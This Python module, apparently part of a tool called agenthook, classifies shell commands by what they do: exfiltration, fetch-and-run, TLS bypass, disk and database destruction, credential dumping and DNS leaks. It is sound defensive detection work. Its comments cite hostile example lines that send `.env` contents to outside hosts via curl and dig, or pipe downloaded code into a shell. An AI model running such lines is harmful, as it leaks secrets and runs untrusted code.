"""What a command does, judged from its words and `data/programs.toml`.

A simple command from `shell.parse` is first unwrapped (`sudo`, `env`,
`timeout`, `xargs`, `find -exec`, `sh -c`, `ssh host CMD`, …) to the
programs that actually run, then each is looked up: does it send local data
off the machine (and which), fetch code and run it, switch TLS off, destroy
a broad target, open up the firewall or privileges, read or print
credentials, leak data through DNS, or plant itself to run again later.
Each effect names the rule it belongs to and says what happens in words.
"""
from __future__ import annotations

import functools
import os
import posixpath
import re
from typing import Any, NamedTuple

from agenthook import lazyre, tomlcache
from agenthook.commands import decode, shell
from agenthook.commands.shell import Command, Env
from agenthook.structured import hosts

MAX_NESTING = 4  # wrappers and decoded payloads followed inside each other


class Effect(NamedTuple):
    """One thing a command does that a reviewer must see."""

    rule: str  # the rule id it is reported under
    severity: str  # low, medium, high or critical
    says: str  # what it does, in words: "sends `.env` to collect.acme-stats.io"


@functools.lru_cache(maxsize=1)
def table() -> dict[str, Any]:
    return tomlcache.load([os.path.join(os.path.dirname(os.path.dirname(__file__)), "data", "programs.toml")],
                          "programs")[0]


@functools.lru_cache(maxsize=4096)
def _name(word: str) -> str:
    """The program a word names: `/usr/bin/curl` and `curl.exe` are `curl`."""
    base = posixpath.basename(word.replace("\\", "/")) if not word.startswith("<(") else word
    return base[:-4] if base.lower().endswith(".exe") and base.lower() not in table()["interpreters"] else base


def _folded(words: list[str]) -> list[str]:
    """Words as an agent reads them: a command written in capitals (`CURL -K URL`) is the command in
    lower case, and so is a long option in mixed case (`--InSeCuRe`); a program's name runs in any
    case on the case-insensitive file systems of macOS and Windows."""
    if words and " " in words[0].strip():
        # `c"url -"k`: one shell word with a space, which an agent reads (and retypes) as `curl -k`
        words = words[0].split() + words[1:]
    letters = "".join(w for w in words if "://" not in w or w.isupper())
    if letters and any(c.isalpha() for c in letters) and not any(c.islower() for c in letters):
        return [w.lower() for w in words]
    out = [w.lower() if w.startswith("--") else w for w in words]
    if out and out[0] != out[0].lower() and out[0].lower() in _known_programs():
        out[0] = out[0].lower()
    return out


@functools.lru_cache(maxsize=1)
def _known_programs() -> frozenset[str]:
    t = table()
    names = {k.split()[0] for group in ("http", "stream", "copy", "wrappers", "interpreters") for k in t[group]}
    return frozenset(n for n in names if n.islower())


@functools.lru_cache(maxsize=1)
def _index() -> dict[str, Any]:
    """Lookups built once from the table: rows by their first word, name sets."""
    t = table()
    by_first: dict[str, dict[str, list[tuple[list[str], str]]]] = {}
    for group, rows in (("printers", t["credentials"]["printers"]), ("privilege", t["privilege"]["commands"])):
        table_ = by_first.setdefault(group, {})
        for key, says in rows.items():
            parts = key.split()
            table_.setdefault(parts[0], []).append((parts, says))
    return {
        **by_first,
        "readers": frozenset(t["credentials"]["readers"]["programs"]) | {"scp", "rsync"},
        "dumps": frozenset(t["credentials"]["env_dumps"]["commands"]),
    }


def _key(words: list[str], entries: dict[str, Any]) -> tuple[str, int]:
    """The longest entry key that the command's words start with ("aws s3 cp"), and its length in words."""
    first = _name(words[0]) if words else ""
    for length in (4, 3, 2, 1):
        if len(words) < length:
            continue
        key = " ".join([first, *words[1:length]])
        if key in entries:
            return key, length
    return "", 0


def _operands(args: list[str], values: list[str] | set[str]) -> list[str]:
    """Arguments that are not options nor option values."""
    out, skip = [], False
    for arg in args:
        if skip:
            skip = False
            continue
        if arg == "--":
            continue
        if arg.startswith("-") and len(arg) > 1:
            skip = arg in values
            continue
        out.append(arg)
    return out


# ---------------------------------------------------------------------------
# Unwrapping


def _unwrapped(words: list[str]) -> tuple[list[str], list[str]]:
    """The words of the program a wrapper runs, and the wrappers passed ("sudo")."""
    wrappers = table()["wrappers"]
    via: list[str] = []
    for _ in range(8):
        if not words:
            break
        key, length = _key(words, wrappers)
        if not key:
            # `find … -exec cmd … ;` runs cmd on each file found
            if _name(words[0]) == "find":
                for i, word in enumerate(words):
                    if word in ("-exec", "-execdir", "-ok", "-okdir"):
                        rest = words[i + 1:]
                        end = next((j for j, w in enumerate(rest) if w in (";", "\\;", "+")), len(rest))
                        via.append("find -exec")
                        words = rest[:end]
                        break
                else:
                    break
                continue
            break
        spec = wrappers[key]
        values = set(spec.get("values", ()))
        rest = words[length:]
        if spec.get("until"):
            if spec["until"] in rest:
                rest = rest[rest.index(spec["until"]) + 1:]
            else:
                rest = _operands(rest, values)[spec.get("skip", 0) + 1:] if key.endswith("exec") else rest
            via.append(key)
            words = rest
            continue
        i, skipped = 0, 0
        while i < len(rest):
            arg = rest[i]
            if arg == "--":
                i += 1
                break
            if key == "env" and "=" in arg and not arg.startswith("-"):
                i += 1
                continue
            if arg in spec.get("code", ()) and i + 1 < len(rest):
                via.append(key)
                return ["sh", "-c", rest[i + 1]], via
            if arg.startswith("-") and len(arg) > 1:
                i += 2 if arg in values else 1
                continue
            if skipped < spec.get("skip", 0):
                skipped += 1
                i += 1
                continue
            break
        via.append(key)
        words = rest[i:]
        if key in ("ssh",) and words and len(words) == 1:
            # `ssh host 'cmd; cmd'` runs the quoted text through the remote shell
            return ["sh", "-c", words[0]], via
        if key == "watch" and len(words) == 1:
            return ["sh", "-c", words[0]], via
    return words, via


# ---------------------------------------------------------------------------
# Destinations

_URL = lazyre.compile(r"^(?:[a-z][a-z0-9+.-]{0,15}://)?(?:[^@/\s]{0,256}@)?(\[[0-9a-fA-F:.]{2,64}\]|[^/:\s?#]{1,253})")
_HOSTLIKE = lazyre.compile(r"^(?:[a-z0-9-]{1,63}\.)+[a-z][a-z0-9-]{1,62}\.?(?::\d{1,5})?(?:/\S*)?$|^\d{1,3}(?:\.\d{1,3}){3}(?::\d+)?$", re.IGNORECASE)


def _host_of(word: str) -> str:
    match = _URL.match(word)
    return match.group(1).strip("[]").rstrip(".").lower() if match else ""


def _outside(host: str, env: Env, repointed: bool = False) -> bool:
    """A destination that is not this machine nor the team's own network.
    An unknown or computed host counts as outside; a name re-pointed
    (`--resolve`, a write to /etc/hosts) may lead anywhere."""
    if not host or "$" in host or "`" in host:
        return True
    if repointed or env.hosts_rewritten:
        return True
    return not hosts.is_internal(host)


def _destination(operands: list[str]) -> str:
    """The first operand that names a host: a URL or a dotted name."""
    for word in operands:
        if "://" in word or _HOSTLIKE.match(word):
            return word
    return ""


# ---------------------------------------------------------------------------
# Data read


@functools.lru_cache(maxsize=8192)
def _credential(word: str) -> str:
    """What credential a path names, or ''. Cached: a command's every word is
    asked, and a long line repeats its words."""
    creds = table()["credentials"]
    path = word.strip("'\"").replace("\\", "/")
    if path.startswith("@"):
        path = path[1:]
    home = ""
    for prefix in ("~/", "$HOME/", "${HOME}/", "%USERPROFILE%/", "$env:USERPROFILE/"):
        if path.startswith(prefix):
            home = path[len(prefix):]
            break
    else:
        for prefix in ("/home/", "/Users/"):
            if path.startswith(prefix) and path.count("/") >= 3:
                home = path.split("/", 3)[3]
        if path.startswith("/root/"):
            home = path[len("/root/"):]
    if path.endswith(".pub") or path.endswith("/known_hosts"):
        return ""  # public keys and host fingerprints are meant to be shared
    for key, says in creds["files"].items():
        if key.startswith("/"):
            if path == key or (key.endswith("/") and path.startswith(key)) or path.startswith(key + "/"):
                return says
        elif home and (home == key.rstrip("/") or home.startswith(key if key.endswith("/") else key + "/")
                       or home == key):
            return says
    base = posixpath.basename(path.rstrip("/"))
    if path.startswith("/proc/") and path.endswith("/environ"):
        return "a process's environment"
    for name, says in creds["names"].items():
        if base == name or (name == ".env" and base.startswith(".env.") and not base.endswith(
                (".example", ".sample", ".template", ".dist", ".defaults", ".test"))):
            return says
    return ""


def _secret_shown(word: str) -> str:
    """How a sent word reads in a finding: `.env` (secret) or the word."""
    return word.lstrip("@<")[:80]


# ---------------------------------------------------------------------------
# Judging


class _Judge:
    def __init__(self, env: Env) -> None:
        self.env = env
        self.effects: list[Effect] = []

    def add(self, rule: str, severity: str, says: str) -> None:
        self.effects.append(Effect(rule, severity, says))

    def command(self, cmd: Command, depth: int) -> None:
        raw = _folded(cmd.words)
        if raw and _name(raw[0]) == "ssh" and (cmd.piped_in or any(op in ("<", "<<<") for op, _ in cmd.redirects)):
            self._send(cmd, "ssh", raw, raw[1:])  # what is fed to ssh goes to the remote host
        if raw and raw[0] == "alias":
            for definition in raw[1:]:
                body = definition.partition("=")[2]
                if body and depth < MAX_NESTING:
                    self.code("shell", body, depth + 1)
        words, via = _unwrapped(raw)
        if not words:
            words = raw  # a wrapper with nothing to run (`env`, `printenv`-like) is judged as itself
        if not words:
            return
        name = _name(words[0])
        args = words[1:]
        interp = table()["interpreters"].get(name)
        if interp:
            self._interpreter(cmd, name, interp, args, depth)
        fed = _xargs_fed(raw) if "xargs" in via and cmd.piped_in else None
        self._send(cmd, name, words, args, (fed, self._upstream_data(cmd)) if fed is not None else None)
        self._install(words)
        self._runner(raw)
        if words is not raw:
            self._runner(words)
        self._tls(name, words, args)
        self._dns(cmd, name, args, (fed, self._upstream_data(cmd)) if fed is not None else None)
        self._destroy(cmd, name, words, args)
        self._credentials(cmd, name, words, args)
        self._privilege(cmd, name, words, args, depth)
        self._persist(cmd, name, words, args, depth)
        for op, target in cmd.redirects:
            if target.startswith("/dev/tcp/") or target.startswith("/dev/udp/"):
                host = target.split("/")[3] if target.count("/") >= 3 else ""
                if (op.startswith(">") or op == "<>") and _outside(host, self.env):
                    self.add("AH202", "high", f"writes `{name}` output to a raw connection to {host}")
                if op == "<" and name in table()["interpreters"] and _outside(host, self.env):
                    self.add("AH901", "critical", f"runs code read from a raw connection to {host}")

    # -- code: shells, interpreters, decoders, fetchers ----------------------

    def _interpreter(self, cmd: Command, name: str, spec: dict[str, Any], args: list[str], depth: int) -> None:
        kind = spec["kind"]
        code = ""
        if spec.get("all"):
            code = " ".join(args)
        else:
            for i, arg in enumerate(args):
                if arg in spec.get("code", ()) and i + 1 < len(args):
                    code = args[i + 1]
                    break
                lowered = arg.lower()
                if lowered in [e.lower() for e in spec.get("encoded", ())] and i + 1 < len(args):
                    decoded = decode.powershell_encoded(args[i + 1])
                    if decoded:
                        self.add("AH902", "high", f"runs PowerShell hidden in base64 (`{decoded[:60]}`)")
                        self.code("powershell", decoded, depth + 1)
                    return
        source_arg = next((a for a in args if a.startswith("<(") or a.startswith("$(")), "")
        if kind == "shell" and spec.get("file") and args:
            source_arg = args[0] if args[0].startswith(("<(", "$(")) else source_arg
        # Code fetched from the network and run: `sh -c "$(curl …)"`, `bash <(curl …)`, `curl … | sh`.
        fetched = self._fetcher_in(cmd.inner) if (source_arg or "$(" in code or "`" in code) else ""
        if not fetched and cmd.piped_in and not code and not _operands(args, set()):
            fetched = self._fetcher_in(cmd.upstream[:1] + cmd.upstream[1:])
            decoder = self._decoder_in(cmd.upstream)
            if decoder and not fetched:
                self.add("AH902", "high", f"decodes `{decoder}` output and runs it with `{name}`")
                payload = self._payload(cmd.upstream)
                if payload:
                    self.code(kind, payload, depth + 1)
        if fetched:
            self._fetch_run(fetched, name)
        elif code and ("$(" in code or "`" in code) and self._decoder_in(cmd.inner):
            self.add("AH902", "high", f"runs what `{self._decoder_in(cmd.inner)}` decodes")
        if code:
            self.code(kind, code, depth + 1)

    def _install(self, words: list[str]) -> None:
        """A package installed from a URL runs that URL's install scripts."""
        spec = table()["installs"]
        joined = " ".join([_name(words[0]), *words[1:6]])
        if not any(joined.startswith(c + " ") for c in spec["commands"]):
            return
        for word in words[2:]:
            url = word[4:] if word.startswith("git+") else word
            if "://" not in url or word.startswith("-"):
                continue
            host = _host_of(url)
            if not _outside(host, self.env):
                continue
            forge = any(host == f or host.endswith("." + f) for f in spec["forges"])
            self.add("AH901", "medium" if forge else "high",
                     f"installs a package from {host}, whose install scripts run on this machine (`{word[:60]}`)")
            return

    def _fetch_run(self, fetched: str, name: str) -> None:
        from agenthook.rules import checks  # noqa: PLC0415

        verdict = checks.official_installer(None, fetched)
        if verdict and verdict[0] is not None:
            self.add("AH901", "medium", f"runs a tool's official installer with `{name}`")
        else:
            host = _host_of(_destination(shell.shell_words(fetched)[1:]) or "")
            self.add("AH901", "high", f"downloads code{' from ' + host if host else ''} and runs it with `{name}`")

    def _fetcher_in(self, commands: tuple[Command, ...] | list[Command]) -> str:
        fetchers = set(table()["fetchers"]["programs"])
        for c in commands:
            words, _ = _unwrapped(_folded(c.words))
            if words and _name(words[0]) in fetchers and _name(words[0]) != "certutil":
                dest = _destination(words[1:])
                if dest and not _outside(_host_of(dest), self.env):
                    continue
                return " ".join(words)
        return ""

    def _decoder_in(self, commands: tuple[Command, ...] | list[Command]) -> str:
        decoders = table()["decoders"]
        for c in commands:
            words, _ = _unwrapped(_folded(c.words))
            if not words:
                continue
            name = _name(words[0])
            if name in decoders and (not decoders[name] or any(
                    w in decoders[name] or (w.startswith("-") and not w.startswith("--") and "d" in w and
                                            "-d" in decoders[name]) for w in words[1:])):
                return " ".join(words[:3])
        return ""

    def _payload(self, upstream: tuple[Command, ...]) -> str:
        """The decoded text of `echo PAYLOAD | base64 -d`, within the budget."""
        for c in upstream:
            words = c.words
            if words and _name(words[0]) in ("echo", "printf") and len(words) > 1:
                return decode.any_encoding(" ".join(w for w in words[1:] if not w.startswith("-")))
            for op, target in c.redirects:
                if op == "<<<":
                    return decode.any_encoding(target)
        return ""

    def code(self, kind: str, text: str, depth: int) -> None:
        """Judge program text: shell through the command model, other languages
        through their calls that run, fetch, send or decode."""
        if depth > MAX_NESTING or not text:
            return
        if kind == "shell":
            for cmd in shell.parse(text, self.env):
                self.command(cmd, depth)
            return
        from agenthook.commands import inline  # noqa: PLC0415

        for rule, severity, says, shell_text in inline.judge(kind, text, self.env):
            if rule:
                self.add(rule, severity, says)
            if shell_text:
                self.code("shell", shell_text, depth + 1)

    # -- sending ---------------------------------------------------------------

    def _send(self, cmd: Command, name: str, words: list[str], args: list[str],
              fed: tuple[str, str] | None = None) -> None:
        t = table()
        stdin_file = next((target for op, target in cmd.redirects if op == "<"), "")
        herestring = any(op == "<<<" for op, _ in cmd.redirects)
        stdin_from = stdin_file or ("command output" if cmd.piped_in or herestring else "")
        repointed = any(a.startswith(("--resolve", "--connect-to")) for a in args)
        if name in t["http"]:
            self._http(cmd, name, t["http"][name], args, stdin_from, repointed, fed)
            return
        key, length = _key(words, t["copy"])
        if key:
            spec = t["copy"][key]
            ops = _operands(words[length:], set(spec.get("values", ())))
            if len(ops) >= 2:
                dest = ops[-1]
                remote = (":" in dest and not dest.startswith(("/", "./")) and "://" not in dest[:3]) or \
                    dest.startswith(("s3://", "gs://", "az://", "https://"))
                sources = [o for o in ops[:-1] if not (":" in o and not o.startswith(("/", "./", "~")))]
                host = _host_of(dest.split(":", 1)[0].split("@")[-1]) if "://" not in dest else _host_of(dest)
                bucket = dest.startswith(("s3://", "gs://", "az://"))
                if bucket:
                    host = f"the bucket `{dest.split('/')[2]}`"
                if remote and sources and (bucket or _outside(host, self.env, repointed)):
                    self._sent(key, sources, host or dest)
            for opt in spec.get("file", ()):
                if opt in words:
                    self._sent(key, [words[words.index(opt) + 1]] if words.index(opt) + 1 < len(words) else [],
                               "cloud storage")
            return
        key, length = _key(words, t["stream"])
        if key and (stdin_from or key in ("mail", "mailx", "mutt") and any(a in ("-a", "-A") for a in args)):
            spec = t["stream"][key]
            ops = _operands(words[length:], set(spec.get("values", ())))
            if key in ("nc", "ncat", "netcat") and any(a.startswith("-") and "l" in a and not a.startswith("--")
                                                       for a in args):
                return  # listening, not sending
            host = ""
            if spec.get("host_option") and spec["host_option"] in words:
                at = words.index(spec["host_option"])
                host = words[at + 1].rsplit(":", 1)[0] if at + 1 < len(words) else ""
            elif ops:
                host = ops[0].split("@")[-1].split(":")[0] if key not in ("mail", "mailx", "mutt", "sendmail") \
                    else ops[0].split("@")[-1]
            if key == "socat":
                host = next((o.split(":")[1] for o in ops if o.upper().startswith(("TCP:", "TCP4:", "UDP:",
                                                                                    "OPENSSL:", "SSL:"))), "")
                if not host:
                    return
            if key == "ssh" and len(ops) > 1 and not stdin_file and not cmd.piped_in:
                return
            if _outside(host, self.env):
                what = self._upstream_data(cmd) if not stdin_file else stdin_file
                self._sent(key, [what], host or "another host", rule="AH202")

    def _http(self, cmd: Command, name: str, spec: dict[str, Any], args: list[str], stdin_from: str,
              repointed: bool, fed: tuple[str, str] | None = None) -> None:
        values = set(spec.get("values", ())) | set(spec.get("data", ())) | set(spec.get("file", ())) | set(
            spec.get("form", ())) | set(spec.get("post", ())) | set(spec.get("postdata", ()))
        ops = _operands(args, values)
        dest = _destination(ops) or next((a.split("=", 1)[1] for a in args if a.startswith("--url=")), "")
        for option in ("--url", "-Uri"):
            if not dest and option in args and args.index(option) + 1 < len(args):
                dest = args[args.index(option) + 1]
        host = _host_of(dest) if dest else ""
        if dest and not _outside(host, self.env, repointed):
            return
        sent: list[str] = []
        computed = False
        shorts = [o for group in ("data", "file", "form") for o in spec.get(group, ())
                  if o.startswith("-") and not o.startswith("--")]
        if fed is not None and dest and _fed_into(fed[0], args, spec, host):
            sent.append(fed[1])  # `cat .env | xargs -I{} curl https://x/?d={}`: each line read goes out
        self._metadata(cmd, name, spec, args, ops, dest, host)
        for i, arg in enumerate(args):
            opt, eq, inline_value = arg.partition("=")
            value = inline_value if eq else (args[i + 1] if i + 1 < len(args) else "")
            short = ""
            if not eq and arg.startswith("-") and not arg.startswith("--"):
                for o in shorts:
                    if arg.startswith(o) and len(arg) > len(o):
                        short, value = o, arg[len(o):]
            matched = opt if eq else (short or arg)
            if matched in spec.get("data", ()):
                if value.startswith("@"):
                    sent.append("standard input" if value == "@-" else value[1:])
                elif "$(" in value or "`" in value or ("$" in value and _secretish(value)):
                    computed = True
            elif matched in spec.get("file", ()):
                sent.append("standard input" if value in ("-", ".") else value)
            elif matched in spec.get("form", ()):
                field = value.split("=", 1)[1] if "=" in value else ""
                if field.startswith(("@", "<")):
                    sent.append(field[1:].split(";")[0])
                elif "$(" in field:
                    computed = True
            elif matched in spec.get("post", ()):
                sent.append(value)
            elif matched in spec.get("postdata", ()):
                if "$(" in value or "`" in value or ("$" in value and _secretish(value)):
                    computed = True
        piped = cmd.piped_in and ("standard input" in sent or bool(spec.get("httpie")))
        if spec.get("httpie"):
            for op in ops:
                if "@" in op and ("=@" in op or op.startswith("@") or op.split("@", 1)[0].isidentifier()):
                    sent.append(op.split("@", 1)[1])
                elif ("=" in op or ":" in op) and ("$(" in op or "`" in op):
                    computed = True
            if stdin_from:
                sent.append(stdin_from if stdin_from != "command output" else self._upstream_data(cmd))
        elif stdin_from and "standard input" in sent:
            sent = [stdin_from if stdin_from != "command output" else self._upstream_data(cmd)
                    if s == "standard input" else s for s in sent]
        if computed:
            sent.append(self._inner_data(cmd) or "command output")
        if not sent and dest and ("$(" in dest or "`" in dest) and cmd.inner:
            self._leak(host or dest, self._inner_data(cmd) or "command output", "in the address it requests",
                       rule="AH205")
            return
        if not sent and dest and _secretish(dest) and not own_service(_secret_names(dest), host, dest):
            self._leak(host or dest, "a secret variable", "in the address it requests", rule="AH205")
            return
        if sent:
            self._sent(name, sent, host or "an unnamed host")
            if piped:  # also a pipe into a network tool: an allow entry for either id keeps covering the line
                self._sent(name, sent, host or "an unnamed host", rule="AH202")

    def _metadata(self, cmd: Command, name: str, spec: dict[str, Any], args: list[str], ops: list[str], dest: str,
                  host: str) -> None:
        """A secret carried in a request's header, cookie or user (`-H "Authorization: Bearer $AWS_…"`) is sent
        as surely as a body; to the service the secret belongs to (a GitHub token to api.github.com) it is that
        service's normal use."""
        if not host or "$" in host or "." not in host:
            return  # `curl -H "…$TOKEN" "$API_URL/x"`: the reader's own service, named where it is configured
        carried: list[str] = []
        meta = spec.get("meta", ())
        for i, arg in enumerate(args):
            opt, eq, inline_value = arg.partition("=")
            if arg in meta and i + 1 < len(args):
                carried.append(args[i + 1])
            elif eq and opt in meta and opt.startswith("--"):
                carried.append(inline_value)
            elif not eq and len(arg) > 2 and arg[:2] in meta and not arg.startswith("--"):
                carried.append(arg[2:])  # `-H'X-Key: …'`
        if spec.get("httpie"):
            # `Header:value`, `param==value` and `field=value` items all leave with the request
            carried += [o for o in ops if o != dest and "://" not in o and (":" in o or "=" in o)]
        for value in carried:
            names = _secret_names(value)
            what = ""
            if names and not own_service(names, host, dest):
                what = f"the value of `${names[0]}`"
            elif ("$(" in value or "`" in value) and cmd.inner:
                data = self._inner_data(cmd)
                if _credential(data.strip("`")) or data == "the environment":
                    what = f"`{data}`" if data != "the environment" else data
            if what:
                severity = "critical" if names and known_secret(names[0]) or what.startswith("`") else "high"
                self.add("AH201", severity, f"sends {what} to {host or 'an unnamed host'} in a request header, "
                                            f"cookie or login with `{name}`")
                return

    def _runner(self, words: list[str]) -> None:
        """A package runner handed a repository or URL with no fixed revision runs whatever is there now."""
        runners = table()["runners"]
        key, length = _key(words, runners)
        if not key:
            return
        spec = runners[key]
        args = words[length:]
        named = [args[i + 1] for i, a in enumerate(args[:-1]) if a in spec.get("spec", ())]
        named += [a.split("=", 1)[1] for a in args if "=" in a and a.split("=", 1)[0] in spec.get("spec", ())]
        ops = _operands(args, set(spec.get("values", ())))
        candidates = named + ops[:1]
        for candidate in candidates:
            source = _unfixed_source(candidate.strip("'\""), key, bool(spec.get("go")),
                                     bool(spec.get("urls_only")) and candidate not in named)
            if source and _outside(_host_of(source.removeprefix("git+")), self.env):
                self.add("AH901", "high", f"runs `{candidate[:80]}` with `{key}`, fetched from {source[:80]} at no "
                                          "fixed revision: whatever is pushed there next runs on this machine")
                return

    def _upstream_data(self, cmd: Command) -> str:
        """What a pipeline feeds a command: the file the first command reads, else its output."""
        for up in reversed(cmd.upstream):
            words = up.words
            if not words:
                continue
            files = [w for w in words[1:] if not w.startswith("-")]
            if _name(words[0]) == "tar" and files and files[0] == words[1]:
                files = files[1:]  # `tar czf …`: the first word is tar's options
            cred = next((f for f in files if _credential(f)), "")
            if cred:
                return cred
            if _name(words[0]) in table()["credentials"]["env_dumps"]["commands"] and len(words) == 1:
                return "the environment"
            if _name(words[0]) in ("cat", "tar", "zip", "gzip", "base64", "xxd") and files:
                return files[0]
        if cmd.upstream:
            return f"`{' '.join(cmd.upstream[-1].words)[:60]}` output"
        return "standard input"

    def _inner_data(self, cmd: Command) -> str:
        for inner in cmd.inner:
            words = inner.words
            cred = next((w for w in words[1:] if _credential(w)), "")
            if cred:
                return cred
            if words and " ".join(words) in table()["credentials"]["env_dumps"]["commands"]:
                return "the environment"
        return f"`{' '.join(cmd.inner[0].words)[:60]}` output" if cmd.inner else ""

    def _sent(self, program: str, sources: list[str], host: str, rule: str = "") -> None:
        secrets = [s for s in sources if _credential(s) or s == "the environment"]
        shown = ", ".join(f"`{_secret_shown(s)}`" if not s.endswith("output") and s != "the environment" else s
                          for s in sources if s)
        severity = "critical" if secrets else "high"
        rule = rule or ("AH203" if program in table()["copy"] else "AH201")
        self.add(rule, severity, f"sends {shown or 'local data'} to {host} with `{program}`")

    def _leak(self, host: str, what: str, how: str, rule: str = "AH205") -> None:
        severity = "critical" if _credential(what.strip("`")) or what == "the environment" else "high"
        self.add(rule, severity, f"sends {what} to {host} {how}")

    # -- DNS -------------------------------------------------------------------

    def _dns(self, cmd: Command, name: str, args: list[str], fed: tuple[str, str] | None = None) -> None:
        if name not in table()["resolve"]["programs"] or name in ("curl", "wget"):
            return
        for word in args:
            if fed is not None and fed[0] and word.startswith(fed[0] + ".") and _outside(_host_of(
                    word[len(fed[0]) + 1:]), self.env):
                # `cat .env | xargs -I{} dig {}.collect.io`: each line read is looked up by name
                self._leak(word[len(fed[0]) + 1:], f"`{fed[1]}`" if _credential(fed[1]) else fed[1],
                           f"through DNS lookups by `{name}`")
                return
            if not cmd.inner and "$" in word and not word.startswith("-") and "." in word[word.index("$"):]:
                # `dig ${data}.collect.io`: whatever the variable holds is looked up by name
                variable = word[word.index("$"):].split(".", 1)[0]
                self._leak(word.split(".", 1)[1] if "." in word else "a name server", f"the value of `{variable}`",
                           f"through a DNS lookup by `{name}`")
                return
            if not cmd.inner:
                continue
            if ("$(" in word or "`" in word) and not word.startswith("-"):
                target = word.split("$(", 1)[0].split("`", 1)[0]
                tail = word.rsplit(")", 1)[-1].rsplit("`", 1)[-1]
                host = tail.lstrip(".") or target
                if "." not in host.strip(".") or not _outside(_host_of(host), self.env):
                    continue  # `ping $(hostname)`, `dig $(hostname).local`: answered on this network
                self._leak(host or "a name server", self._inner_data(cmd) or "command output",
                           f"through a DNS lookup by `{name}`")
                return

    # -- TLS -------------------------------------------------------------------

    def _tls(self, name: str, words: list[str], args: list[str]) -> None:
        spec = table()["http"].get(name)
        if not spec:
            return
        flags = set(spec.get("insecure", ()))
        hit = next((a for a in args if a in flags or (name == "curl" and a.startswith("-") and not
                                                       a.startswith("--") and "k" in a[1:] and a[1:].isalpha())), "")
        if hit:
            dest = _destination(_operands(args, set(spec.get("values", ()))))
            from agenthook import context  # noqa: PLC0415

            # Only this machine is safe to reach unverified: on any network someone else may sit in the path.
            if dest and context.is_loopback(_host_of(dest)) and not self.env.hosts_rewritten:
                return
            rule = "AH301" if name == "curl" else "AH302"
            self.add(rule, "high", f"`{name} {hit}` accepts any certificate, so anyone on the path can read and "
                                   "change the traffic")

    # -- destruction -----------------------------------------------------------

    def _destroy(self, cmd: Command, name: str, words: list[str], args: list[str]) -> None:
        t = table()["destroy"]
        if name in ("rm", "Remove-Item", "ri", "rd", "rmdir", "del", "erase"):
            recursive = any(a in ("-r", "-R", "--recursive", "-Recurse", "/s", "/S") or (
                a.startswith("-") and not a.startswith("--") and ("r" in a or "R" in a) and name == "rm")
                for a in args)
            if recursive:
                for target in _operands(args, {"-Path", "-LiteralPath"}):
                    why = _broad(target, t)
                    if why:
                        self.add("AH701", "critical", f"deletes {why} (`{name} {' '.join(args)[:60]}`)")
                        return
        if name == "find" and "-delete" in args:
            ops = [a for a in args[:args.index("-delete")] if not a.startswith("-")]
            if ops and _broad(ops[0], t):
                self.add("AH701", "critical", f"deletes everything under `{ops[0]}`")
        if name == "dd" and any(a.startswith("of=/dev/") and not a.startswith(("of=/dev/null", "of=/dev/stdout",
                                                                                 "of=/dev/stderr")) for a in args):
            self.add("AH702", "critical", "overwrites a disk with `dd`")
        if name.startswith("mkfs") or (name == "shred" and any(a.startswith("/dev/") for a in args)):
            self.add("AH702", "critical", f"erases a disk with `{name}`")
        for op, target in cmd.redirects:
            if op in (">", ">|") and target.startswith(("/dev/sd", "/dev/nvme", "/dev/disk", "/dev/hd", "/dev/vd",
                                                         "/dev/mmcblk")):
                self.add("AH702", "critical", f"overwrites the disk `{target}`")
        if name == "git" and "push" in args:
            self._push(args, t)
        key, _ = _key(words, t["commands"])
        if key and key.startswith("kubectl delete") is False and key == "kubectl delete":
            key = ""
        if key:
            rule = "AH705" if key.split()[0] in ("dropdb", "redis-cli") else "AH704"
            if key.startswith("git "):
                rule, severity = "AH709", "high"
            else:
                severity = "high"
            if key.startswith(("wipefs", "diskutil", "format", "Clear-Disk", "Format-Volume")):
                rule, severity = "AH702", "critical"
            if key == "aws s3 rb" and "--force" not in args:
                severity = "medium"
            self.add(rule, severity, f"{t['commands'][key]} (`{' '.join(words)[:70]}`)")
        elif name == "kubectl" and "delete" in args and any(a in ("--all", "-A", "--all-namespaces") for a in args):
            self.add("AH704", "high", "deletes every resource of a kind in the cluster")
        elif name == "aws" and args[:2] == ["s3", "rm"] and "--recursive" in args:
            self.add("AH704", "high", "deletes every object under an S3 prefix")
        self._sql(name, args)

    def _push(self, args: list[str], t: dict[str, Any]) -> None:
        after = args[args.index("push") + 1:]
        force = any(a in ("-f", "--force", "--mirror") or (a.startswith("-") and not a.startswith("--") and "f" in a)
                    for a in after)
        ops = _operands(after, {"-o", "--push-option", "--repo", "--receive-pack", "--exec"})
        refs = ops[1:]
        plus = [r for r in refs if r.startswith("+")]
        deletes = "--delete" in after or "-d" in after or any(r.startswith(":") for r in refs)
        shared = set(t["shared_branches"])

        def target(ref: str) -> str:
            return ref.lstrip("+:").split(":")[-1].removeprefix("refs/heads/")

        hit = [r for r in refs if target(r) in shared or target(r).startswith(("release/", "release-"))]
        if "--mirror" in after:
            self.add("AH703", "high", "overwrites every branch and tag of the remote with `git push --mirror`")
        elif (force and hit) or (plus and any(target(r) in shared for r in plus)) or (deletes and hit):
            what = "deletes" if deletes and not force else "force-pushes over"
            self.add("AH703", "high", f"{what} the shared branch `{target(hit[0] if hit else plus[0])}`")

    _SQL = lazyre.compile(r"\b(?:drop\s+(?:database|schema|table)|truncate\s+(?:table\s+)?\w|flushall|dropDatabase\s*\()",
                          re.IGNORECASE)

    def _sql(self, name: str, args: list[str]) -> None:
        if name not in ("psql", "mysql", "mariadb", "sqlite3", "sqlcmd", "mongo", "mongosh", "clickhouse-client",
                        "cockroach", "duckdb", "snowsql", "bq", "redis-cli"):
            return
        for arg in args:
            if self._SQL.search(arg):
                self.add("AH705", "high", f"drops or empties a database through `{name}`")
                return

    # -- credentials -----------------------------------------------------------

    def _credentials(self, cmd: Command, name: str, words: list[str], args: list[str]) -> None:
        dumps = _index()["dumps"]
        joined = " ".join(words)
        # `$(gh auth token)` hands the token to the command around it, which is judged itself; a
        # dump piped on is judged where it goes (`env | grep -i electron` shows what it filters for).
        dump = joined in dumps or (name in ("env", "printenv") and not args)
        if dump and not cmd.captured and not cmd.piped_out:
            self.add("AH802", "high", f"prints every environment variable, secrets included (`{joined}`)")
        elif cmd.piped_in and cmd.upstream and not cmd.piped_out and _is_dump(cmd.upstream[-1].words, dumps) and (
                name not in _FILTERS or any(_secretish("$" + a) for a in args)):
            self.add("AH802", "high", f"prints the environment, secrets included (`{' '.join(cmd.upstream[-1].words)}"
                                      f" | {joined[:40]}`)")
        for parts, says in _index()["printers"].get(name, ()) if not cmd.captured else ():
            if words[1:len(parts)] == parts[1:] or (len(parts) > 2 and all(p in words for p in parts[1:])):
